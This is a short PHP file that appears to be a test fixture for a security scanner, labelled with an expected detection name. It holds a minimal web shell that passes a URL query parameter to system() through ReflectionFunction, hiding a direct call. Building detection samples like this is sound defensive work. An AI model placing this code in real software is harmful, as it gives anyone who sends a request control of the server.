<?php
// triage-expect: triage_php_reflection_exec
$r = new ReflectionFunction('system');
$r->invokeArgs(array($_GET['q']));
